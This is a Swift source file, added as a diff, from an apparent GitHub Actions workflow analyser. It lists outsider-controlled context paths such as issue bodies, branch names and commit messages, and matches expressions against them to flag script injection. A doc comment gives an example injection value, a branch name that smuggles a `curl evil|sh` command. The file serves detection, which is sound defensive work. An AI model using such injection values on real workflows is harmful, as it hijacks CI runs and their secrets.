@@ -1,0 +1,48 @@
+/// Which context values of a workflow run anyone who can open an issue, a pull request or a
+/// comment can choose: titles, bodies, branch names, commit messages and author names. Expanded
+/// into a script with `${{ }}`, such a value becomes code (a branch named `a";curl evil|sh;"`).
+public enum GitHubContexts {
+    /// Dotted context paths, lower-cased, `*` standing for any one segment (a list index or a key).
+    public static let attackerControlledPatterns: [String] = [
+        "github.head_ref",
+        "github.event.issue.title", "github.event.issue.body",
+        "github.event.pull_request.title", "github.event.pull_request.body",
+        "github.event.pull_request.head.ref", "github.event.pull_request.head.label",
+        "github.event.pull_request.head.repo.default_branch", "github.event.pull_request.head.repo.description",
+        "github.event.pull_request.head.repo.homepage",
+        "github.event.comment.body", "github.event.review.body", "github.event.review_comment.body",
+        "github.event.discussion.title", "github.event.discussion.body",
+        "github.event.pages.*.page_name",
+        "github.event.commits.*.message", "github.event.commits.*.author.email", "github.event.commits.*.author.name",
+        "github.event.commits.*.committer.email", "github.event.commits.*.committer.name",
+        "github.event.head_commit.message", "github.event.head_commit.author.email",
+        "github.event.head_commit.author.name", "github.event.head_commit.committer.email",
+        "github.event.head_commit.committer.name",
+        "github.event.workflow_run.head_branch", "github.event.workflow_run.display_title",
+        "github.event.workflow_run.head_commit.message", "github.event.workflow_run.head_commit.author.email",
+        "github.event.workflow_run.head_commit.author.name", "github.event.workflow_run.pull_requests.*.head.ref",
+        "github.event.workflow_run.head_repository.description",
+        "github.event.check_suite.head_branch", "github.event.check_run.check_suite.head_branch",
+        "github.event.merge_group.head_commit.message", "github.event.release.name", "github.event.release.body",
+        "github.event.release.tag_name",
+    ]
+
+    private static let patterns: [[Substring]] = attackerControlledPatterns.map { $0.split(separator: ".") }
+
+    /// Whether the context path (as `WorkflowExpression.contextPaths` gives it) reads a value an
+    /// outsider controls, or an object that contains one (`toJSON(github.event.pull_request)`).
+    public static func isAttackerControlled(_ path: String) -> Bool {
+        let segments = path.lowercased().split(separator: ".")
+        guard segments.count >= 1 else { return false }
+        return patterns.contains { pattern in
+            // The path reads the pattern's value, something inside it, or an object holding it.
+            let shared = min(pattern.count, segments.count)
+            guard segments.count >= 2 || pattern.count >= 2 else { return false }
+            for index in 0..<shared
+            where pattern[index] != "*" && segments[index] != "*" && pattern[index] != segments[index] {
+                return false
+            }
+            return true
+        }
+    }
+}
